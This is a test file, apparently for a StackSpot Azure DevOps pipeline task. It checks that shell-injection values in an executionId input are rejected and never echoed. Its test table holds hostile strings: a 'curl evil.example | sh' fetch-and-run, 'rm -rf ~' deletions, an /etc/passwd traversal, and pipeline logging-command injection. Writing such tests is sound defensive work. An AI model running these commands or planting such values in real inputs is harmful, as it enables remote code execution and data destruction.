import { runTask } from "./support/agent";
import { inputCredentials } from "./support/credentials";
import { useAgent } from "./support/use-agent";

// Values a queue-time parameter could carry into a shell line in StackSpot's manual pipeline.
const HOSTILE: Array<[string, string, RegExp]> = [
  ["a space", "abc def", /position 4: a space \(U\+0020\)/],
  ["a double quote", 'abc"; id; "', /position 4: a double quote \(U\+0022\)/],
  ["a single quote", "abc' || true", /position 4: a single quote \(U\+0027\)/],
  ["a command substitution", "$(curl evil.example | sh)", /position 1: a dollar sign \(U\+0024\)/],
  ["an unexpanded macro", "$(workflowId)", /position 1: a dollar sign \(U\+0024\)/],
  ["back-ticks", "`id`", /position 1: a back-tick \(U\+0060\)/],
  ["a semicolon", "exec-1;rm -rf ~", /position 7: a semicolon \(U\+003B\)/],
  ["a new line", "exec-1\nrm -rf ~", /position 7: a line break \(U\+000A\)/],
  [
    "a logging command",
    "##vso[task.setvariable variable=pwned]yes",
    /position 1: a hash sign \(U\+0023\)/,
  ],
  ["a non-ASCII letter", "exécution", /position 3: a non-ASCII character \(U\+00E9\)/],
  ["an ampersand", "exec-1&&whoami", /position 7: an ampersand \(U\+0026\)/],
  ["a pipe", "exec|tee", /position 5: a vertical bar \(U\+007C\)/],
  ["a slash (path)", "../../etc/passwd", /position 3: a slash \(U\+002F\)/],
  ["129 characters", "x".repeat(129), /has 129 characters; at most 128/],
  ["only spaces", "   ", /executionId is empty/],
];

describe("a hostile executionId", () => {
  const agent = useAgent({ scope: "all" });

  test.each(HOSTILE)(
    "with %s is refused before anything is downloaded, and never printed",
    async (_label, value, rule) => {
      const { key, inputs } = inputCredentials();
      const run = await runTask(agent.sandbox, {
        inputs: { ...inputs, executionId: value, installerBaseUrl: agent.server.baseUrl },
        secrets: [key],
      });
      expect(run.result).toBe("Failed");
      expect(run.resultMessage).toMatch(/The input executionId/);
      expect(run.resultMessage).toMatch(rule);
      expect(run.resultMessage).toMatch(/workflow_execution_id/);
      expect(agent.server.requests).toEqual([]);
      expect(run.records).toEqual([]);
      expect(run.echoedCommands).toEqual([]);
      if (value.trim().length >= 3) {
        expect(run.stdout).not.toContain(value);
        expect(run.stderr).not.toContain(value);
      }
      // Only the task's own commands: nothing the value could have injected.
      expect(new Set(run.commands.map((c) => c.name))).toEqual(
        new Set(["task.debug", "task.setsecret", "task.issue", "task.complete"]),
      );
    },
  );

  test("an empty value is refused with the fix for the pipeline", async () => {
    const { key, inputs } = inputCredentials();
    const run = await runTask(agent.sandbox, {
      inputs: { ...inputs, executionId: "", installerBaseUrl: agent.server.baseUrl },
      secrets: [key],
    });
    expect(run.result).toBe("Failed");
    expect(run.resultMessage).toContain("The input executionId is empty");
    expect(run.resultMessage).toContain("${{ parameters.workflow_execution_id }}");
    expect(agent.server.requests).toEqual([]);
  });
});
